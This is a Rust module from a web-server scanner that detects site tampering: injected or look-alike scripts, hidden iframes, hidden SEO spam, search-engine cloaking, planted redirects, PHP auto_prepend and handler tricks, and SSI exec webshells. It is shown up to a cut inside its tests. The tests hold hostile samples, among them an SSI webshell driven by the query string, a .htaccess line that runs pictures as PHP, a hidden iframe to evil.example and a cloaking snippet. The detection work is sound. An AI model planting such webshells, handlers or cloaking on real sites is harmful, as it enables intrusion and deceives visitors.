//! Page tampering without a baseline: injected scripts and iframes, SEO spam and cloaking, and
//! PHP/Apache settings that run a file before every page.

use crate::Hit;
use firewarden_model::Severity;

const SPAM_WORDS: &[&str] = &[
    "casino",
    "viagra",
    "cialis",
    "porn",
    "payday loan",
    "replica watches",
    "betting",
    "博彩",
    "赌博",
    "六合彩",
    "娱乐城",
    "棋牌",
    "彩票",
    "澳门",
    "时时彩",
    "百家乐",
    "av女优",
];
/// Hosts pages commonly load scripts from; a host that borrows one of their names without
/// being one of them (a look-alike) is how injected loaders hide in a page's head.
const WELL_KNOWN_SCRIPT_HOSTS: &[&str] = &[
    "google-analytics.com",
    "googletagmanager.com",
    "googleapis.com",
    "googlesyndication.com",
    "gstatic.com",
    "jquery.com",
    "cloudflare.com",
    "cloudflareinsights.com",
    "jsdelivr.net",
    "unpkg.com",
    "bootstrapcdn.com",
    "facebook.net",
    "baidu.com",
    "bdstatic.com",
    "cnzz.com",
    "bootcdn.net",
    "bootcss.com",
    "staticfile.org",
    "yandex.ru",
    "hotjar.com",
    "doubleclick.net",
];
/// Brand words from those hosts: one inside another registered domain is a look-alike.
const SCRIPT_BRANDS: &[&str] = &[
    "google",
    "jquery",
    "cloudflare",
    "jsdelivr",
    "bootstrap",
    "facebook",
    "baidu",
    "cnzz",
    "analytics",
    "tagmanager",
    "gstatic",
    "doubleclick",
    "hotjar",
    "yandex",
];
/// Top-level domains that free or throwaway registrations favour; a script from one is
/// worth a look.
const THROWAWAY_TLDS: &[&str] = &[
    "top", "xyz", "tk", "pw", "icu", "buzz", "monster", "rest", "cyou", "click", "gq", "ml", "cf",
    "ga", "cam", "work", "su", "bond", "sbs",
];
/// Words a script uses to tell a phone from a computer.
const MOBILE_WORDS: &[&str] = &[
    "android",
    "iphone",
    "ipad",
    "mobile",
    "ipod",
    "windows phone",
];
const SEARCH_BOTS: &[&str] = &[
    "googlebot",
    "baiduspider",
    "bingbot",
    "sogou",
    "360spider",
    "yisouspider",
];

fn hit(
    check: &'static str,
    severity: Severity,
    title: &str,
    why: String,
    offset: Option<usize>,
    attack: &[&str],
) -> Hit {
    Hit {
        check,
        severity,
        title: title.to_string(),
        why,
        attack: attack.iter().map(|s| s.to_string()).collect(),
        offset,
        rule: None,
    }
}

/// Whether a file name is one this module reads.
pub fn applies(name: &str) -> bool {
    let lower = name.to_ascii_lowercase();
    let base = lower.rsplit('/').next().unwrap_or(&lower);
    matches!(base, ".htaccess" | ".user.ini" | "php.ini" | "web.config")
        || [
            ".html", ".htm", ".shtml", ".shtm", ".stm", ".php", ".js", ".tpl", ".twig", ".asp",
            ".aspx", ".jsp",
        ]
        .iter()
        .any(|e| base.ends_with(e))
}

/// Tampering signs in one file.
pub fn scan(name: &str, data: &[u8]) -> Vec<Hit> {
    let lower_name = name.to_ascii_lowercase();
    let base = lower_name.rsplit('/').next().unwrap_or(&lower_name);
    // ASCII lowering keeps byte offsets equal to the file's; the CJK spam words have no case.
    let text = String::from_utf8_lossy(&data.to_ascii_lowercase()).into_owned();
    let mut hits = Vec::new();
    match base {
        ".htaccess" => htaccess(&text, &mut hits),
        ".user.ini" | "php.ini" => ini(&text, &mut hits),
        "web.config" => web_config(&text, &mut hits),
        _ => {
            let static_page = [".html", ".htm", ".shtml", ".shtm", ".stm"]
                .iter()
                .any(|e| base.ends_with(e));
            page(&text, base.ends_with(".js"), static_page, &mut hits);
            if static_page {
                ssi_exec(&text, &mut hits);
            }
            if base.ends_with(".php")
                || base.ends_with(".asp")
                || base.ends_with(".aspx")
                || base.ends_with(".jsp")
            {
                cloaking(&text, &mut hits);
            }
        }
    }
    hits
}

fn ini(t: &str, hits: &mut Vec<Hit>) {
    for (n, line) in t.lines().enumerate() {
        let l = line.trim();
        if l.starts_with(';') || l.starts_with('#') {
            continue;
        }
        if let Some(rest) = l
            .strip_prefix("auto_prepend_file")
            .or_else(|| l.strip_prefix("auto_append_file"))
        {
            let value = rest
                .trim_start()
                .trim_start_matches('=')
                .trim()
                .trim_matches('"');
            if value.is_empty() || value == "none" {
                continue;
            }
            let severity = if suspicious_target(value) {
                Severity::Critical
            } else {
                Severity::High
            };
            hits.push(hit(
                "scan.tamper.auto_prepend",
                severity,
                "PHP auto_prepend/auto_append file set",
                format!("line {}: PHP runs `{value}` before or after every script in this directory tree; attackers use it to load a backdoor into every page", n + 1),
                Some(offset_of_line(t, n)),
                &["T1505.003", "T1546"],
            ));
        }
    }
}

fn suspicious_target(v: &str) -> bool {
    v.starts_with("/tmp")
        || v.starts_with("/dev/shm")
        || v.starts_with("/var/tmp")
        || v.contains("/.")
        || [".jpg", ".png", ".gif", ".ico", ".txt", ".log"]
            .iter()
            .any(|e| v.ends_with(e))
        || v.starts_with("http")
        || v.starts_with("data:")
        || v.starts_with("php://")
}

fn htaccess(t: &str, hits: &mut Vec<Hit>) {
    for (n, line) in t.lines().enumerate() {
        let l = line.trim();
        if l.starts_with('#') {
            continue;
        }
        let off = Some(offset_of_line(t, n));
        if (l.starts_with("php_value") || l.starts_with("php_admin_value"))
            && (l.contains("auto_prepend_file") || l.contains("auto_append_file"))
        {
            let value = l.split_whitespace().nth(2).unwrap_or("").trim_matches('"');
            if value != "none" {
                hits.push(hit(
                    "scan.tamper.auto_prepend",
                    if suspicious_target(value) {
                        Severity::Critical
                    } else {
                        Severity::High
                    },
                    ".htaccess sets auto_prepend/auto_append",
                    format!(
                        "line {}: every PHP page under this directory first runs `{value}`",
                        n + 1
                    ),
                    off,
                    &["T1505.003", "T1546"],
                ));
            }
        }
        let maps_php = (l.starts_with("addtype") || l.starts_with("addhandler"))
            && (l.contains("php") || l.contains("x-httpd"))
            && [
                ".jpg", ".jpeg", ".png", ".gif", ".txt", ".ico", ".css", " jpg", " png", " gif",
                " txt",
            ]
            .iter()
            .any(|e| l.contains(e));
        let sethandler = l.starts_with("sethandler") && l.contains("php");
        if maps_php || sethandler {
            hits.push(hit(
                "scan.tamper.handler",
                Severity::High,
                ".htaccess makes non-PHP files run as PHP",
                format!(
                    "line {}: `{}` lets an uploaded picture or text file run as code",
                    n + 1,
                    line.trim()
                ),
                off,
                &["T1505.003"],
            ));
        }
        if l.starts_with("rewritecond")
            && l.contains("http_referer")
            && SEARCH_BOTS
                .iter()
                .chain(&["google", "baidu", "bing", "yahoo", "sogou"])
                .any(|b| l.contains(b))
        {
            hits.push(hit(
                "scan.tamper.referer_redirect",
                Severity::High,
                ".htaccess redirects visitors from search engines",
                format!("line {}: visitors arriving from a search engine are sent elsewhere; owners see a normal site, searchers see spam", n + 1),
                off,
                &["T1491.002"],
            ));
        }
    }
}

/// Files a site serves as data. Sites do map `.html` to ASP.NET for rewritten URLs, so only
/// these count: a handler for one of them runs uploads.
const DATA_EXTENSIONS: &[&str] = &[
    "jpg", "jpeg", "png", "gif", "bmp", "ico", "webp", "svg", "txt", "log", "config", "css", "js",
    "xml", "json", "rar", "zip", "doc", "pdf", "mp3", "mp4", "swf", "dat", "tmp", "bak",
];

/// Engines that run a file as code when a handler or build provider names them.
const IIS_ENGINES: &[&str] = &[
    "asp.dll",
    "aspnet_isapi.dll",
    "php-cgi",
    "php.exe",
    "pagehandlerfactory",
    "pagebuildprovider",
    "simplehandlerfactory",
];

/// An IIS `web.config` that makes pictures, text or the config itself run as code, unhides
/// itself, or carries script: the IIS versions of `.htaccess` handler tricks.
fn web_config(t: &str, hits: &mut Vec<Hit>) {
    // Each `<add …>` element, within 2 KiB, for the first 1,000.
    for (p, _) in t.match_indices("<add ").take(1000) {
        let tag = crate::heuristics::near(&t[p..], 2048);
        let tag = &tag[..tag.find('>').unwrap_or(tag.len())];
        let Some(engine) = IIS_ENGINES.iter().find(|e| tag.contains(**e)) else {
            continue;
        };
        // `path="*.jpg"` for a handler, `extension=".jpg"` for a build provider.
        let target = attribute(tag, "path").or_else(|| attribute(tag, "extension"));
        let Some(target) = target else { continue };
        let Some((_, ext)) = target.rsplit_once('.') else {
            continue;
        };
        if !DATA_EXTENSIONS.contains(&ext) {
            continue;
        }
        hits.push(hit(
            "scan.tamper.handler",
            Severity::High,
            "web.config makes non-script files run as code",
            format!(
                "`{target}` is handed to `{engine}`: an uploaded picture, text file or this config itself runs as a server page"
            ),
            Some(p),
            &["T1505.003"],
        ));
        break;
    }
    let unhides = [
        "<remove fileextension=\".config\"",
        "<remove segment=\"web.config\"",
    ]
    .iter()
    .find_map(|m| t.find(m));
    if let Some(p) = unhides {
        hits.push(hit(
            "scan.tamper.handler",
            Severity::High,
            "web.config lets web.config be requested",
            "the request filter that keeps `.config` files and `web.config` from being served is removed: the step that lets a web.config with script in it be requested and run".into(),
            Some(p),
            &["T1505.003"],
        ));
    }
    // The block's body is searched for its end after the `<%` (`<%>` is not a block).
    if let Some(p) = t.find("<%")
        && let Some(len) = t[p + 2..].find("%>")
        && t[p + 2..p + 2 + len].trim().len() > 8
    {
        hits.push(hit(
            "scan.tamper.config_code",
            Severity::High,
            "web.config holds server script",
            "a `<% … %>` block of ASP code sits in the configuration file, where IIS never needs it: with a handler that runs `.config` files, requesting web.config runs it".into(),
            Some(p),
            &["T1505.003"],
        ));
    }
}

/// Every text the page checks search for: one pass finds which of them a page holds at all,
/// and a check whose markers are absent does not read the page again. Most pages hold few of
/// them; searching each one separately read every page some twenty times.
const PAGE_MARKERS: &[&str] = &[
    "<script",
    "document.write(unescape(",
    "string.fromcharcode(",
    "eval(atob(",
    "document.write(atob(",
    "eval(function(p,a,c,k,e,",
    "document.write(\"\\x3c",
    "document.write('\\x3c",
    "window[\"\\x65\\x76\\x61\\x6c\"]",
    "<iframe",
    "display:none",
    "display: none",
    "left:-9999px",
    "left: -9999px",
    "visibility:hidden",
    "font-size:0",
    "<meta",
    "location.href=",
    "location.href =",
    "location=",
    "location = ",
    "location.replace(",
    "location.assign(",
    "</html>",
];

/// Which [`PAGE_MARKERS`] occur in `t`.
struct Markers(Vec<bool>);

impl Markers {
    fn of(t: &str) -> Self {
        static SEARCH: std::sync::OnceLock<crate::presence::Presence> = std::sync::OnceLock::new();
        Markers(
            SEARCH
                .get_or_init(|| crate::presence::Presence::new(PAGE_MARKERS.to_vec()))
                .of(t),
        )
    }
    /// Whether `marker` (one of [`PAGE_MARKERS`]) occurs; an unlisted text counts as present.
    fn has(&self, marker: &str) -> bool {
        PAGE_MARKERS
            .iter()
            .position(|m| *m == marker)
            .is_none_or(|k| self.0[k])
    }
}

fn page(t: &str, library: bool, static_page: bool, hits: &mut Vec<Hit>) {
    let markers = Markers::of(t);
    let has = |m: &str| markers.has(m);
    // Scripts loaded from a bare IP address, or written after the document ended.
    let html_end = if has("</html>") {
        t.find("</html>")
    } else {
        None
    };
    let mut from = 0;
    while let Some(p) = has("<script").then(|| t[from..].find("<script")).flatten() {
        let at = from + p;
        let tag_end = t[at..].find('>').map(|e| at + e).unwrap_or(t.len());
        let tag = &t[at..tag_end];
        if let Some(host) = src_host(tag) {
            let name = host.split(':').next().unwrap_or("");
            let ip = name.parse::<std::net::Ipv4Addr>().is_ok();
            // Server templates hold several documents and append their own counters; a
            // static page with a script after its end is the injectors' mark.
            let after_html = static_page && html_end.is_some_and(|e| e < at) && {
                let reg = registered(name);
                !WELL_KNOWN_SCRIPT_HOSTS.contains(&reg.as_str())
            };
            let why = if ip {
                Some(", a bare IP address".to_owned())
            } else if after_html {
                Some(" after the end of the page (</html>), where injectors append".to_owned())
            } else if let Some(brand) = look_alike(name) {
                Some(format!(
                    ", a look-alike of the well-known {brand} script hosts (it is not one of them)"
                ))
            } else {
                throwaway_tld(name).map(|tld| {
                    format!(", a domain under .{tld}, where throwaway registrations cluster")
                })
            };
            if let Some(why) = why {
                hits.push(hit(
                    "scan.tamper.injected_script",
                    Severity::High,
                    "Injected external script",
                    format!(
                        "a <script src> loads code from `{host}`{why}; every visitor's browser runs it"
                    ),
                    Some(at),
                    &["T1491.002", "T1189"],
                ));
            }
        }
        from = tag_end.max(at + 7);
    }
    // document.write of a script/iframe built from escaped characters; libraries use
    // fromCharCode for small things, loaders for a long run of codes.
    let loader = has("document.write(unescape(")
        .then(|| t.match_indices("document.write(unescape("))
        .into_iter()
        .flatten()
        .map(|(p, _)| p)
        // The escaped payload itself must be there (not a template filled at run time).
        .find(|&p| t.get(p..p + 400).unwrap_or(&t[p..]).matches('%').count() >= 20)
        .or_else(|| {
            let mut from = 0;
            while let Some(p) = has("string.fromcharcode(")
                .then(|| t[from..].find("string.fromcharcode("))
                .flatten()
            {
                let at = from + p + "string.fromcharcode(".len();
                let args = &t[at..];
                let codes = args
                    .split(',')
                    .take_while(|a| a.trim().trim_end_matches(')').parse::<u32>().is_ok())
                    .count();
                if codes >= 30 {
                    return Some(from + p);
                }
                from = at;
            }
            None
        });
    // eval or document.write of base64, the "p,a,c,k,e,d" packer, or markup spelled in hex
    // escapes: in a page (libraries may pack themselves, pages do not).
    let loader = loader.or_else(|| {
        if library {
            return None;
        }
        [
            "eval(atob(",
            "document.write(atob(",
            "eval(function(p,a,c,k,e,",
            "document.write(\"\\x3c",
            "document.write('\\x3c",
            "window[\"\\x65\\x76\\x61\\x6c\"]",
        ]
        .iter()
        .filter(|m| has(m))
        .filter_map(|m| t.find(m))
        .min()
    });
    if let Some(p) = loader {
        let window = t.get(p.saturating_sub(300)..p + 3000).unwrap_or(&t[p..]);
        if window.contains("script")
            || window.contains("iframe")
            || window.contains("eval(")
            || window.contains("atob(")
        {
            hits.push(hit(
                "scan.tamper.obfuscated_loader",
                Severity::High,
                "Obfuscated script or iframe loader",
                "a script or iframe is written from escaped text or a long run of character codes, the usual shape of injected page malware".into(),
                Some(p),
                &["T1491.002", "T1027"],
            ));
        }
    }
    // Hidden iframes to another site.
    let mut from = 0;
    while let Some(p) = has("<iframe").then(|| t[from..].find("<iframe")).flatten() {
        let at = from + p;
        let end = t[at..].find('>').map(|e| at + e).unwrap_or(t.len());
        let tag = &t[at..end];
        let attr = |name: &str| attribute(tag, name);
        let tiny =
            |v: Option<String>| v.is_some_and(|v| matches!(v.trim_end_matches("px"), "0" | "1"));
        let style = attr("style").unwrap_or_default().replace(' ', "");
        let hidden = tiny(attr("width")) && tiny(attr("height"))
            || style.contains("display:none")
            || style.contains("visibility:hidden");
        let external = attr("src").is_some_and(|s| {
            s.starts_with("http://") || s.starts_with("https://") || s.starts_with("//")
        });
        if hidden && external {
            hits.push(hit(
                "scan.tamper.hidden_iframe",
                Severity::High,
                "Hidden iframe",
                "an invisible iframe loads another site in every visitor's browser (drive-by download or traffic theft)".into(),
                Some(at),
                &["T1189", "T1491.002"],
            ));
            break;
        }
        from = end.max(at + 7);
    }
    redirects(t, library, &markers, hits);
    // SEO spam: links or text with spam words inside a hidden block (in pages, not script
    // libraries).
    if library {
        return;
    }
    for marker in [
        "display:none",
        "display: none",
        "left:-9999px",
        "left: -9999px",
        "visibility:hidden",
        "font-size:0",
    ] {
        if !has(marker) {
            continue;
        }
        let mut from = 0;
        while let Some(p) = t[from..].find(marker) {
            let at = from + p;
            let block = t[at..].get(..4000).unwrap_or(&t[at..]);
            let block = block.split("</div>").next().unwrap_or(block);
            let links = block.matches("<a ").count();
            // Links to other sites: a hidden menu of the site's own pages is ordinary.
            let external = block.matches("href=\"http").count()
                + block.matches("href='http").count()
                + block.matches("href=http").count();
            let spam = spam_words(block);
            // One hidden link to a spam page is enough; so is hidden spam text without links.
            if links >= 1 && spam >= 1 || spam >= 2 || external >= 10 {
                hits.push(hit(
                    "scan.tamper.seo_spam",
                    Severity::High,
                    "Hidden SEO spam",
                    format!(
                        "a hidden block ({marker}) holds {}{}: search engines see it, visitors do not",
                        if links > 0 { format!("{links} link(s)") } else { "text".to_owned() },
                        if spam > 0 { " with gambling/pharma/adult words" } else { "" }
                    ),
                    Some(at),
                    &["T1491.002"],
                ));
                return;
            }
            from = at + marker.len();
        }
    }
}

/// The registered domain of a host name (its last two labels; three for the common
/// second-level registries such as `com.cn`, `co.uk`).
fn registered(host: &str) -> String {
    let labels: Vec<&str> = host.trim_end_matches('.').split('.').collect();
    let n = labels.len();
    let take = if n >= 3
        && matches!(
            labels[n - 2],
            "com" | "net" | "org" | "co" | "gov" | "edu" | "ac"
        ) {
        3
    } else {
        2
    };
    labels[n.saturating_sub(take)..].join(".")
}

/// The brand a host imitates when it carries a well-known script host's name without being
/// that host (`google-analytics.com.cdn-x.top`, `jquery-cdn.xyz`, `g00gletagmanager.com`).
fn look_alike(host: &str) -> Option<&'static str> {
    let reg = registered(host);
    if WELL_KNOWN_SCRIPT_HOSTS.contains(&reg.as_str()) {
        return None;
    }
    // Digits standing for letters, as in g00gle.
    let plain: String = host
        .chars()
        .map(|c| match c {
            '0' => 'o',
            '1' => 'l',
            '3' => 'e',
            '5' => 's',
            _ => c,
        })
        .collect();
    let brand = SCRIPT_BRANDS.iter().find(|b| plain.contains(*b))?;
    // A brand's own other domains (google.com, googleusercontent.com …) are not look-alikes.
    let reg_plain = registered(&plain);
    let owner = reg_plain.split('.').next().unwrap_or("");
    if owner.starts_with(brand) && reg == reg_plain && !owner.contains('-') {
        return None;
    }
    Some(brand)
}

fn throwaway_tld(host: &str) -> Option<&'static str> {
    let tld = host.rsplit('.').next()?;
    THROWAWAY_TLDS.iter().find(|t| **t == tld).copied()
}

/// The host of an absolute URL in `text` (`http://`, `https://`, `//`), if it starts with one.
fn url_host(text: &str) -> Option<&str> {
    let v = text.trim_start_matches(['"', '\'', ' ']);
    let v = v
        .strip_prefix("http://")
        .or_else(|| v.strip_prefix("https://"))
        .or_else(|| v.strip_prefix("//"))?;
    let end = v
        .find(['/', '"', '\'', ' ', '?', ';', ')', '#'])
        .unwrap_or(v.len());
    let host = &v[..end];
    (!host.is_empty() && host.contains('.')).then_some(host)
}

/// Redirects planted in pages: a `<meta refresh>` or a script that sends visitors to another
/// site only when they come from a search engine or on a phone, or from outside the page's
/// markup, or to a look-alike or throwaway domain. A plain redirect the owner wrote (to
/// their own new address) stays quiet.
/// How many different [`SPAM_WORDS`] `block` holds, in one pass over it.
fn spam_words(block: &str) -> usize {
    static SEARCH: std::sync::OnceLock<crate::presence::Presence> = std::sync::OnceLock::new();
    SEARCH
        .get_or_init(|| crate::presence::Presence::new(SPAM_WORDS.to_vec()))
        .of(block)
        .iter()
        .filter(|s| **s)
        .count()
}

fn redirects(t: &str, library: bool, markers: &Markers, hits: &mut Vec<Hit>) {
    let mut targets: Vec<(usize, &str, &'static str)> = Vec::new();
    // <meta http-equiv="refresh" content="0;url=http://…">
    let mut from = 0;
    while let Some(p) = markers
        .has("<meta")
        .then(|| t[from..].find("<meta"))
        .flatten()
    {
        let at = from + p;
        let end = t[at..].find('>').map(|e| at + e).unwrap_or(t.len());
        let tag = &t[at..end];
        from = end.max(at + 5);
        if !tag.contains("refresh") {
            continue;
        }
        if let Some(u) = tag.find("url=")
            && let Some(host) = url_host(&tag[u + 4..])
        {
            targets.push((at, host, "a <meta refresh>"));
        }
    }
    // location = / location.href = / location.replace( / window.open( with an absolute URL.
    for sink in [
        "location.href=",
        "location.href =",
        "location=",
        "location = ",
        "location.replace(",
        "location.assign(",
    ] {
        if !markers.has(sink) {
            continue;
        }
        let mut from = 0;
        while let Some(p) = t[from..].find(sink) {
            let at = from + p;
            from = at + sink.len();
            if let Some(host) = url_host(&t[from..]) {
                targets.push((at, host, "a script"));
            }
        }
    }
    if targets.is_empty() {
        return;
    }
    targets.sort_by_key(|x| x.0);
    let html_end = if markers.has("</html>") {
        t.find("</html>")
    } else {
        None
    };
    // The site's own domains, as its links and canonical address name them: sending visitors
    // there is the owner's business.
    let mut own: Vec<String> = Vec::new();
    for attr in ["href=\"", "href='"] {
        let mut from = 0;
        while let Some(p) = t[from..].find(attr) {
            let at = from + p;
            from = at + attr.len();
            // An attribute of a tag, not a script's `location.href='…'`.
            if !t[..at].ends_with([' ', '\n', '\t']) {
                continue;
            }
            if let Some(h) = url_host(&t[from..]) {
                let r = registered(h);
                if !own.contains(&r) {
                    own.push(r);
                }
            }
            if own.len() > 200 {
                break;
            }
        }
    }
    for (at, host, how) in targets {
        if own.contains(&registered(host)) {
            continue;
        }
        let window = &t[floor_char(t, at.saturating_sub(600))..at];
        let referrer = window.contains("document.referrer")
            && SEARCH_BOTS
                .iter()
                .map(|b| b.trim_end_matches("bot").trim_end_matches("spider"))
                .chain([
                    "google", "baidu", "bing", "yahoo", "sogou", "so.com", "sm.cn",
                ])
                .any(|e| window.contains(e));
        // A site sending phones to its own mobile pages (m.…, wap.…) is ordinary.
        let own_mobile = ["m.", "wap.", "mobile.", "3g."]
            .iter()
            .any(|p| host.starts_with(p));
        let mobile = !own_mobile
            && window.contains("useragent")
            && MOBILE_WORDS.iter().any(|m| window.contains(m));
        let outside = html_end.is_some_and(|e| at > e)
            || (!library && t.trim_start().find("<html").is_some_and(|h| at < h));
        let why = if referrer {
            Some("only visitors who arrive from a search engine are sent away (the owner, typing the address, never sees it)".to_owned())
        } else if mobile {
            Some(
                "only visitors on a phone are sent away (the owner, on a computer, never sees it)"
                    .to_owned(),
            )
        } else if let Some(brand) = look_alike(host) {
            Some(format!("the target imitates the well-known {brand} hosts"))
        } else if let Some(tld) = throwaway_tld(host) {
            Some(format!(
                "the target is under .{tld}, where throwaway registrations cluster"
            ))
        } else if outside {
            Some("it sits outside the page's markup, where injectors add code".to_owned())
        } else {
            None
        };
        if let Some(why) = why {
            hits.push(hit(
                "scan.tamper.redirect",
                Severity::High,
                "Planted redirect",
                format!("{how} sends visitors to `{host}`: {why}"),
                Some(at),
                &["T1491.002", "T1189"],
            ));
            return;
        }
    }
}

/// The value of attribute `name` in a tag (`name=value`, quoted or not), as a whole word.
fn attribute(tag: &str, name: &str) -> Option<String> {
    let mut from = 0;
    while let Some(p) = tag[from..].find(name) {
        let at = from + p;
        from = at + name.len();
        let before_ok = tag[..at].ends_with([' ', '\t', '\n', '"', '\'']);
        let rest = tag[from..].trim_start();
        if !before_ok || !rest.starts_with('=') {
            continue;
        }
        let v = rest[1..].trim_start();
        let v = if let Some(q) = v.strip_prefix(['"', '\'']) {
            q.split(['"', '\'']).next().unwrap_or("")
        } else {
            v.split([' ', '>']).next().unwrap_or("")
        };
        return Some(v.to_string());
    }
    None
}

fn src_host(tag: &str) -> Option<&str> {
    let p = tag.find("src=")?;
    let v = tag[p + 4..].trim_start_matches(['"', '\'']);
    let v = v
        .strip_prefix("http://")
        .or_else(|| v.strip_prefix("https://"))
        .or_else(|| v.strip_prefix("//"))?;
    let end = v.find(['/', '"', '\'', ' ', '?']).unwrap_or(v.len());
    Some(&v[..end])
}

/// Pages that serve different content to search-engine crawlers (black-hat SEO): the
/// crawler test and a remote fetch or an off-site redirect close together. A CMS that only
/// records which crawler visited (a "spider log") stays quiet.
fn cloaking(t: &str, hits: &mut Vec<Hit>) {
    let ua = t.contains("http_user_agent") || t.contains("user-agent") || t.contains("useragent");
    if !ua {
        return;
    }
    const REMOTE: &[&str] = &[
        "file_get_contents(\"http",
        "file_get_contents('http",
        "curl_exec(",
        "fsockopen(",
        "serverxmlhttp",
        "microsoft.xmlhttp",
        "winhttp.winhttprequest",
        "new url(\"http",
        "openconnection(",
        "header(\"location: http",
        "header('location: http",
        "response.redirect \"http",
        "response.redirect(\"http",
        "sendredirect(\"http",
    ];
    let positions: Vec<usize> = SEARCH_BOTS.iter().filter_map(|b| t.find(b)).collect();
    let bots = positions.len();
    if bots < 2 {
        return;
    }
    for &at in &positions {
        let window =
            &t[floor_char(t, at.saturating_sub(1500))..floor_char(t, (at + 1500).min(t.len()))];
        if REMOTE.iter().any(|r| window.contains(r)) {
            hits.push(hit(
                "scan.tamper.cloaking",
                Severity::High,
                "Search-engine cloaking",
                format!("the page checks the user agent for {bots} search-engine crawlers and, right there, fetches remote content or sends them elsewhere: crawlers get spam, the owner sees a normal site"),
                Some(at),
                &["T1491.002"],
            ));
            return;
        }
    }
}

/// The largest index at or below `i` that starts a character.
fn floor_char(t: &str, mut i: usize) -> usize {
    while i > 0 && !t.is_char_boundary(i) {
        i -= 1;
    }
    i
}

/// Server-side include variables that carry what the visitor sent.
const SSI_REQUEST_VARIABLES: &[&str] = &[
    "query_string",
    "http_",
    "request_uri",
    "path_info",
    "document_args",
    "remote_user",
];

/// A server-side include that runs a shell command (`<!--#exec cmd="…"-->`, Apache
/// `mod_include` and IIS): each request for the page runs it. With a request variable in the
/// command it is a webshell driven by the URL; with a fixed one, a page that runs a program on
/// every view, which sites stopped doing when `IncludesNOEXEC` became the norm.
fn ssi_exec(t: &str, hits: &mut Vec<Hit>) {
    for (p, _) in t.match_indices("<!--#exec").take(1_000) {
        // 4 KiB on, cut on a character: the page's text is anyone's.
        let directive = crate::heuristics::near(&t[p..], 4_096);
        let directive = &directive[..directive.find("-->").unwrap_or(directive.len())];
        let Some(cmd) = directive.find("cmd") else {
            continue;
        };
        let command = directive[cmd + 3..]
            .trim_start()
            .strip_prefix('=')
            .map(|v| v.trim().trim_matches(['"', '\'', '`']))
            .unwrap_or_default();
        if command.is_empty() {
            continue;
        }
        let shown: String = command.chars().take(120).collect();
        if let Some(var) = SSI_REQUEST_VARIABLES
            .iter()
            .find(|v| command.contains(&format!("${v}")) || command.contains(&format!("${{{v}")))
        {
            hits.push(hit(
                "scan.tamper.ssi_exec",
                Severity::Critical,
                "Server-side include runs a command from the request",
                format!(
                    "the page's `<!--#exec cmd=…-->` runs `{shown}`, which holds the request variable `{}`: whoever requests the page chooses the shell command (an SSI webshell)",
                    var.trim_end_matches('_').to_uppercase()
                ),
                Some(p),
                &["T1505.003", "T1059.004"],
            ));
            return;
        }
        hits.push(hit(
            "scan.tamper.ssi_exec",
            Severity::Medium,
            "Server-side include runs a shell command",
            format!(
                "the page's `<!--#exec cmd=…-->` runs `{shown}` each time the page is served: check who put it there and what it runs"
            ),
            Some(p),
            &["T1505.003"],
        ));
        return;
    }
}

fn offset_of_line(t: &str, n: usize) -> usize {
    t.split_inclusive('\n').take(n).map(str::len).sum()
}

#[cfg(test)]
mod tests {
    use super::*;

    fn ids(name: &str, s: &str) -> Vec<&'static str> {
        scan(name, s.as_bytes()).iter().map(|h| h.check).collect()
    }

    #[test]
    fn server_side_include_exec() {
        let url = "<pre><!--#exec cmd=\"$QUERY_STRING_UNESCAPED\" --></pre>";
        assert_eq!(ids("/var/www/x.shtml", url), ["scan.tamper.ssi_exec"]);
        assert_eq!(
            scan("/var/www/x.shtml", url.as_bytes())[0].severity,
            Severity::Critical
        );
        let header = "<!--#exec cmd=\"sh -c '${HTTP_X_C}'\"-->";
        assert_eq!(
            scan("/inetpub/a.stm", header.as_bytes())[0].severity,
            Severity::Critical
        );
        let fixed = "<html><body><!--#exec cmd=\"id; uname -a\" --></body></html>";
        assert_eq!(
            scan("/var/www/s.shtml", fixed.as_bytes())[0].severity,
            Severity::Medium
        );
        // Other directives, a CGI run by SSI, and `#exec` shown as text stay quiet.
        let quiet = "<!--#include virtual=\"/footer.html\" --><!--#echo var=\"QUERY_STRING\" -->\
            <!--#exec cgi=\"/cgi-bin/counter.pl\" --><code>&lt;!--#exec cmd=\"$QUERY_STRING\" --&gt;</code>";
        assert!(
            ids("/var/www/i.shtml", quiet).is_empty(),
            "{:?}",
            ids("/var/www/i.shtml", quiet)
        );
        // A long command with multibyte text across the 4 KiB read is cut on a character.
        let long = format!("<!--#exec cmd=\"x{}日日日日\"-->", "a".repeat(4079));
        assert_eq!(ids("/var/www/l.shtml", &long), ["scan.tamper.ssi_exec"]);
        // Only pages the server parses: a `.php` file's comment is not an include.
        assert!(ids("/var/www/a.php", url).is_empty());
    }

    #[test]
    fn tampering_is_recognised() {
        assert_eq!(
            ids("/var/www/.user.ini", "auto_prepend_file=/tmp/.x.jpg\n"),
            ["scan.tamper.auto_prepend"]
        );
        assert_eq!(
            scan("/var/www/.user.ini", b"auto_prepend_file=/tmp/.x.jpg\n")[0].severity,
            Severity::Critical
        );
        assert_eq!(
            ids(
                "/var/www/.htaccess",
                "php_value auto_prepend_file \"/var/www/up/a.png\"\n"
            ),
            ["scan.tamper.auto_prepend"]
        );
        assert_eq!(
            ids(
                "/var/www/up/.htaccess",
                "AddType application/x-httpd-php .jpg\n"
            ),
            ["scan.tamper.handler"]
        );
        assert_eq!(
            ids(
                "/var/www/index.html",
                "<html><body>hi</body></html>\n<script src=\"http://203.0.113.9/x.js\"></script>"
            ),
            ["scan.tamper.injected_script"]
        );
        assert_eq!(
            ids(
                "/var/www/index.html",
                "<html><body><iframe src=\"http://evil.example/\" width=\"0\" height=\"0\"></iframe></body></html>"
            ),
            ["scan.tamper.hidden_iframe"]
        );
        let spam = format!(
            "<div style=\"display:none\">{}</div>",
            "<a href=\"http://x.example/\">online casino</a>".repeat(4)
        );
        assert_eq!(ids("/var/www/index.php", &spam), ["scan.tamper.seo_spam"]);
        assert_eq!(
            ids(
                "/var/www/index.php",
                "<?php $ua=$_SERVER['HTTP_USER_AGENT']; if (stristr($ua,'Baiduspider')||stristr($ua,'Googlebot')) { echo file_get_contents('http://spam.example/'); }"
            ),
            ["scan.tamper.cloaking"]
        );
    }

    #[test]
    fn web_config_that_runs_uploads_or_itself() {
        let handler = "<configuration><system.webServer><handlers>\n<add name=\"x\" path=\"*.jpg\" verb=\"*\" modules=\"IsapiModule\" scriptProcessor=\"%windir%\\system32\\inetsrv\\asp.dll\" />\n</handlers></system.webServer></configuration>";
        assert_eq!(
            ids("/inetpub/wwwroot/up/web.config", handler),
            ["scan.tamper.handler"]
        );
        let build = "<configuration><system.web><compilation><buildProviders>\n<add extension=\".txt\" type=\"System.Web.Compilation.PageBuildProvider\" />\n</buildProviders></compilation></system.web></configuration>";
        assert_eq!(
            ids("/inetpub/wwwroot/web.config", build),
            ["scan.tamper.handler"]
        );
